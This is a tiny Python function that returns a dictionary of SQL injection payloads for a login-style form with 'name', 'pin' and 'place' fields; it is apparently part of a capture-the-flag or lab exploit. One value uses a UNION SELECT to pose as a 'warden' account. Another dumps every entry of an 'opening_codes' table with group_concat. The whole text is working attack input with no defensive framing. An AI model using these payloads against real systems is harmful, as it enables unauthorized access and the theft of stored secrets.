def payloads() -> dict:
    return {"name": "x')) UNION SELECT 'warden' --", "pin": '0', "place": "x' UNION SELECT 0, group_concat(code) FROM opening_codes --"}
